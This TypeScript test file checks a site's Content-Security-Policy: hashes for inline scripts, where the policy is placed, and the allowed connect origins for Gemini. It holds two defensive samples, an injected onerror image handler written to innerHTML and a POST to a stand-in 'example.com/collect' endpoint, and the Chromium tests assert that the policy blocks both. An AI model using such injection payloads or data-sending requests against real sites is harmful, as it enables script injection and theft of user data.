// The Content-Security-Policy the build stamps on every page: it allows exactly the inline scripts Framework
// wrote, and in Chromium an injected inline handler does not run and a request to another origin is refused,
// while the pages themselves load with no violation (the other browser tests report violations as errors).
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { geminiConnectOrigins, policyFor, withPolicy } from "../scripts/content-security-policy.js";
import { checkEndpoint } from "../src/components/persona-cards.js";
import { connectSources, sourcesAllow } from "../src/lib/personas/connect-policy.js";
import { reportInChromium, requireBuiltSite } from "./helpers/site.js";

const PAGE = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>t</title>
<script type="module">import "./a.js";</script>
</head>
<body><script>console.log(1)</script><script src="./b.js"></script></body>
</html>`;

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

function htmlFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return htmlFiles(path);
    return name.endsWith(".html") ? [path] : [];
  });
}

describe("policyFor", () => {
  it("allows each inline script by its hash, and no inline code beyond them", () => {
    const policy = policyFor(PAGE, { connectOrigins: ["https://gemini.example"] });
    const scriptSrc = policy.split("; ").find((d) => d.startsWith("script-src ")) ?? "";
    assert.deepEqual(
      scriptSrc.split(" ").slice(1).sort(),
      ["'self'", "'wasm-unsafe-eval'", hashOf('import "./a.js";'), hashOf("console.log(1)")].sort(),
    );
    assert.doesNotMatch(scriptSrc, /unsafe-inline|'unsafe-eval'/);
    assert.match(policy, /connect-src 'self' https:\/\/gemini\.example(;|$)/);
    assert.match(policy, /object-src 'none'/);
  });

  it("goes right after the charset, before every script, once", () => {
    const stamped = withPolicy(PAGE, { connectOrigins: [] });
    const meta = stamped.indexOf('http-equiv="Content-Security-Policy"');
    assert.ok(meta > stamped.indexOf("<meta charset") && meta < stamped.indexOf("<script"));
    assert.equal(withPolicy(stamped, { connectOrigins: [] }), stamped);
    assert.throws(() => withPolicy("<html><body></body></html>", { connectOrigins: [] }), /no <head>/);
  });

  it("connects to Google's Gemini, to GEMINI_BASE_URL's origin and to loopback only", () => {
    assert.deepEqual(geminiConnectOrigins({}).slice(0, 1), ["https://generativelanguage.googleapis.com"]);
    const withProxy = geminiConnectOrigins({ GEMINI_BASE_URL: "https://proxy.example.com/gemini/" });
    assert.ok(withProxy.includes("https://proxy.example.com"));
    assert.ok(withProxy.every((o) => /googleapis|proxy\.example|127\.0\.0\.1|localhost/.test(o)));
    assert.throws(() => geminiConnectOrigins({ GEMINI_BASE_URL: "not a url" }), /GEMINI_BASE_URL is not a URL/);
  });
});

describe("the live endpoint under the page's policy", () => {
  const policy = policyFor(PAGE, { connectOrigins: geminiConnectOrigins({}) });
  const sources = connectSources(policy) ?? [];
  const page = { sources, self: "http://127.0.0.1:8080" };

  it("reads connect-src and matches origins, ports and 'self'", () => {
    assert.equal(connectSources(null), null);
    assert.deepEqual(connectSources("default-src 'self'; img-src data:"), ["'self'"]);
    assert.ok(sourcesAllow(sources, new URL("http://127.0.0.1:9999/x"), page.self));
    assert.ok(sourcesAllow(sources, new URL("https://generativelanguage.googleapis.com/v1beta"), page.self));
    assert.ok(!sourcesAllow(sources, new URL("https://evil.example"), page.self));
    assert.ok(!sourcesAllow(sources, new URL("http://generativelanguage.googleapis.com"), page.self));
  });

  it("refuses an https endpoint the policy does not allow, saying how to allow it", () => {
    const refused = checkEndpoint("https://proxy.example.com", page);
    assert.equal(refused.ok, false);
    assert.match(refused.ok ? "" : refused.reason, /Content-Security-Policy.*GEMINI_BASE_URL/);
    assert.deepEqual(checkEndpoint("http://127.0.0.1:8123", page), { ok: true, url: "http://127.0.0.1:8123" });
  });
});

describe("the built site's policy", () => {
  it("every page carries it, with a hash for each of its inline scripts", () => {
    const pages = htmlFiles(requireBuiltSite());
    assert.ok(pages.length >= 8, `only ${pages.length} pages`);
    for (const path of pages) {
      const html = readFileSync(path, "utf-8");
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html);
      assert.ok(meta, `${path} has no Content-Security-Policy`);
      const inline = [...html.matchAll(/<script\b(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)];
      for (const [, code] of inline) assert.ok(meta[1]?.includes(hashOf(code ?? "")), `${path}: a script is unhashed`);
      assert.ok(html.indexOf(meta[0]) < html.indexOf("<script"), `${path}: the policy comes after a script`);
    }
  });

  describe("in Chromium", () => {
    const report = reportInChromium();

    it("an injected inline handler does not run, and a request elsewhere is refused", async () => {
      const { page, problems } = await report.open("/");
      const ran = await page.evaluate(async () => {
        const flags = window as unknown as { injectedRan?: boolean };
        const holder = document.createElement("div");
        // What a rendering mistake would do: a file's cell value reaching innerHTML.
        holder.innerHTML = '<img src="data:," onerror="window.injectedRan = true">';
        document.body.append(holder);
        await new Promise((done) => setTimeout(done, 200));
        let fetched = "refused";
        try {
          await fetch("https://example.com/collect", { method: "POST", body: "x" });
          fetched = "sent";
        } catch {
          // The policy's refusal surfaces as a network error.
        }
        return { handler: flags.injectedRan === true, fetched };
      });
      assert.deepEqual(ran, { handler: false, fetched: "refused" });
      const violations = problems.consoleErrors.filter((e) => /Content Security Policy|CSP violation/i.test(e));
      assert.ok(
        violations.some((e) => /script-src|inline/i.test(e)),
        violations.join("\n"),
      );
      assert.ok(
        violations.some((e) => /connect-src/i.test(e)),
        violations.join("\n"),
      );
      assert.deepEqual(problems.externalRequests, []);
      await page.close();
    });
  });
});
